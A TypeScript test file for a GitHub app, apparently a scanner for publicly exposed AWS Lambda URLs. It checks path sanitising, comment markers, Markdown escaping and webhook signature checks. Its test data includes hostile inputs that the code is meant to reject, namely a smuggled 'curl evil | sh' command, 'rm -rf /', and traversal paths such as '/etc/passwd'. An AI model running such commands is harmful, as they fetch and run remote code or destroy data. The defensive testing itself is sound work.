import { describe, expect, it } from "vitest";
import { code, commandsIn, renderPrBody, safeCommands, text } from "../../src/app/body.js";
import { readHandoff } from "../../src/app/handoff.js";
import { iacKind, selectEntries } from "../../src/app/iac-files.js";
import { LIMITS } from "../../src/app/limits.js";
import {
  branchName,
  findingsDigest,
  readMarker,
  renderMarker,
  replaceMarker,
} from "../../src/app/markers.js";
import { unsafePathReason } from "../../src/app/paths.js";
import { dismissedFingerprints, type OwnPr } from "../../src/app/pull-request.js";
import { verifySignature } from "../../src/app/lambda.js";
import { readZipEntry } from "../../src/app/zip.js";
import { parseHandoffMarker } from "../../src/report/check-run.js";
import { makeZip } from "../helpers/github-fake.js";
import { outputText, principalFinding, report, urlFinding } from "./helpers.js";
import { createHmac } from "node:crypto";

describe("paths from reports", () => {
  it.each([
    ["infra/main.tf", null],
    ["../x.tf", "path leaves the repository (..)"],
    ["a/../../x", "path leaves the repository (..)"],
    ["/etc/passwd", "absolute path"],
    ["C:/x.tf", "absolute path"],
    ["a\\b.tf", "backslash in path"],
    ["a//b.tf", "path has an empty or '.' segment"],
    ["./a.tf", "path has an empty or '.' segment"],
    [".git/config", "path inside .git"],
    ["a\u0000b", "control character in path"],
  ])("%j → %j", (path, reason) => {
    expect(unsafePathReason(path)).toBe(reason);
  });
});

describe("hand-off marker", () => {
  it("accepts exactly what the shared parser accepts, with a reason when it refuses", () => {
    const r = report([urlFinding("webhook", "infra/main.tf", 7), principalFinding("ci")]);
    const text = outputText(r);
    const ours = readHandoff(text, LIMITS.markerChars);
    expect(ours.ok).toBe(true);
    expect(ours.ok && ours.payload).toEqual(parseHandoffMarker(text));

    const traversal = text.replace('"path":"infra/main.tf"', '"path":"../x.tf"');
    expect(parseHandoffMarker(traversal)).toBeNull();
    expect(readHandoff(traversal, LIMITS.markerChars)).toMatchObject({
      ok: false,
      reason: expect.stringContaining("leaves the repository"),
    });
    const unknown = text.replace('"rule":"LG004"', '"rule":"LG404"');
    expect(readHandoff(unknown, LIMITS.markerChars)).toMatchObject({
      ok: false,
      reason: expect.stringContaining('unknown rule id "LG404"'),
    });
    expect(readHandoff("hello", LIMITS.markerChars)).toMatchObject({ ok: false, absent: true });
    expect(readHandoff(`${text}${" ".repeat(LIMITS.markerChars)}`, LIMITS.markerChars)).toMatchObject({
      ok: false,
    });
  });
});

describe("markers", () => {
  it("round-trips, is replaced in place, and survives hostile text", () => {
    const m = {
      check: "lambda-guard",
      digest: findingsDigest("lambda-guard", ["b", "a"]),
      fingerprints: ["a", "b"],
    };
    expect(findingsDigest("lambda-guard", ["a", "b"])).toBe(m.digest);
    const body = `${renderMarker("pr", m)}\nhello --> <!-- lambda-guard:pr@1 {"check":"x"} -->`;
    expect(readMarker("pr", body)).toEqual(m);
    expect(readMarker("pr", replaceMarker("pr", body, { ...m, resolved: true }))?.resolved).toBe(true);
    expect(readMarker("issue", body)).toBeNull();
    expect(readMarker("pr", "<!-- lambda-guard:pr@1 {not json} -->")).toBeNull();
    expect(renderMarker("pr", { ...m, check: "-->" })).not.toMatch(/-->.*-->/);
  });

  it("makes safe branch names", () => {
    expect(branchName("lambda-guard")).toBe("lambda-guard/lambda-guard");
    expect(branchName("lambda-guard (prod / eu)")).toBe("lambda-guard/lambda-guard-prod-eu");
    expect(branchName("../..")).toBe("lambda-guard/scan");
  });
});

describe("rendering untrusted text", () => {
  it("escapes Markdown, defuses mentions and comments, and only shows plain aws lambda commands", () => {
    expect(text("@octocat <img src=x> [a](b) <!-- x -->")).not.toMatch(
      /@octocat|(?<!\\)<img|(?<!\\)\]\(|<!--/,
    );
    expect(code("a`b")).toBe("``a`b``");
    expect(
      safeCommands([
        "aws lambda remove-permission --function-name f --statement-id S",
        "aws lambda x; curl evil | sh",
        "rm -rf /",
      ]),
    ).toEqual({
      shown: ["aws lambda remove-permission --function-name f --statement-id S"],
      omitted: 2,
    });
    expect(
      commandsIn(
        "…until you run: aws lambda remove-permission --function-name webhook --statement-id FunctionURLAllowPublicAccess (and…",
      ),
    ).toEqual([
      "aws lambda remove-permission --function-name webhook --statement-id FunctionURLAllowPublicAccess",
    ]);
  });

  it("keeps PR bodies under GitHub's limit", () => {
    const fixed = Array.from({ length: 400 }, (_, i) => ({
      finding: { ...urlFinding(`f${i}`, "a.tf"), message: "x".repeat(2000) },
      notes: ["n".repeat(500)],
    }));
    const body = renderPrBody({
      check: "lambda-guard",
      headSha: "a".repeat(40),
      marker: { check: "lambda-guard", digest: "0".repeat(32), fingerprints: [] },
      defaultBranch: "main",
      fixed,
      unfixed: [],
      changes: [{ path: "a.tf" }],
      skipped: [],
    });
    expect(body.length).toBeLessThanOrEqual(LIMITS.bodyChars);
    expect(readMarker("pr", body)).not.toBeNull();
  });
});

describe("dismissals", () => {
  const pr = (number: number, state: string, fingerprints: string[], extra: Partial<OwnPr> = {}): OwnPr => ({
    number,
    state,
    merged: false,
    body: "",
    marker: { check: "lambda-guard", digest: "0".repeat(32), fingerprints },
    ...extra,
  });

  it("are the findings of every PR closed unmerged by a person, mapped to the newest such PR", () => {
    const prs = [
      pr(5, "open", ["e"]),
      pr(4, "closed", ["d"], { merged: true }),
      pr(3, "closed", ["b", "c"]),
      pr(2, "closed", ["x"], {
        marker: { check: "lambda-guard", digest: "0".repeat(32), fingerprints: ["x"], resolved: true },
      }),
      pr(1, "closed", ["a", "b"]),
    ];
    expect(Object.fromEntries(dismissedFingerprints(prs))).toEqual({ a: 1, b: 3, c: 3 });
    expect(dismissedFingerprints([])).toEqual(new Map());
  });

  it("are listed in the PR body with the closed PR, separately from the fix", () => {
    const body = renderPrBody({
      check: "lambda-guard",
      headSha: "a".repeat(40),
      marker: { check: "lambda-guard", digest: "0".repeat(32), fingerprints: [] },
      defaultBranch: "main",
      fixed: [{ finding: urlFinding("api", "infra/api.tf"), notes: [] }],
      unfixed: [],
      dismissed: [{ finding: urlFinding("webhook", "infra/main.tf"), pr: 7 }],
      changes: [{ path: "infra/api.tf" }],
      skipped: [],
    });
    const [before, after] = body.split("## Dismissed earlier (not changed here)");
    expect(before).not.toContain("url.webhook");
    expect(after).toContain("- LG001 `aws_lambda_function_url.webhook` (critical): dismissed in #7");
  });
});

describe("IaC file patterns", () => {
  it("reads Terraform, templates, Serverless and CDK sources, nothing else", () => {
    expect(iacKind("infra/main.tf")).toBe("terraform");
    expect(iacKind("envs/prod.tfvars")).toBe("terraform");
    expect(iacKind("template.yaml")).toBe("template");
    expect(iacKind("serverless.yml")).toBe("serverless");
    expect(iacKind("package.json")).toBeNull();
    expect(iacKind(".github/workflows/ci.yml")).toBeNull();
    expect(iacKind("node_modules/x/main.tf")).toBeNull();
    expect(iacKind("src/handler.ts")).toBeNull();
    expect(iacKind("cdk/lib/stack.ts", ["cdk"])).toBe("cdk");
    expect(iacKind("cdk/lib/stack.d.ts", ["cdk"])).toBeNull();
  });

  it("skips blobs over 1 MiB and caps the number of files, report paths first", () => {
    const entries = [
      { path: "big.tf", mode: "100644", type: "blob", sha: "1", size: 2 * 1024 * 1024 },
      ...Array.from({ length: LIMITS.files + 5 }, (_, i) => ({
        path: `m/${String(i).padStart(4, "0")}.tf`,
        mode: "100644",
        type: "blob",
        sha: `s${i}`,
        size: 10,
      })),
      { path: "z/wanted.tf", mode: "100644", type: "blob", sha: "w", size: 10 },
    ];
    const { chosen, skipped } = selectEntries(entries, new Set(["z/wanted.tf"]));
    expect(chosen).toHaveLength(LIMITS.files);
    expect(chosen.map((e) => e.path)).toContain("z/wanted.tf");
    expect(skipped[0]).toMatch(/big\.tf: larger than/);
  });
});

describe("zip", () => {
  it("reads stored and deflated entries and refuses oversized ones", () => {
    const json = JSON.stringify({ hello: "world".repeat(100) });
    for (const deflate of [true, false]) {
      const zip = makeZip({ "other.txt": "x", "report.json": json }, deflate);
      expect(readZipEntry(zip, (n) => n === "report.json", 1_000_000)?.data.toString()).toBe(json);
    }
    expect(() => readZipEntry(makeZip({ "report.json": json }), () => true, 100)).toThrow(/limit/);
    expect(() => readZipEntry(Buffer.from("not a zip at all, really not"), () => true, 100)).toThrow(
      /not a readable zip/,
    );
  });
});

describe("Lambda signature check", () => {
  it("accepts only sha256 HMACs of the raw body", () => {
    const body = Buffer.from('{"a":1}');
    const sig = `sha256=${createHmac("sha256", "s").update(body).digest("hex")}`;
    expect(verifySignature("s", body, sig)).toBe(true);
    expect(verifySignature("t", body, sig)).toBe(false);
    expect(verifySignature("s", Buffer.from('{"a":2}'), sig)).toBe(false);
    expect(verifySignature("s", body, undefined)).toBe(false);
    expect(verifySignature("s", body, "sha1=abc")).toBe(false);
  });
});
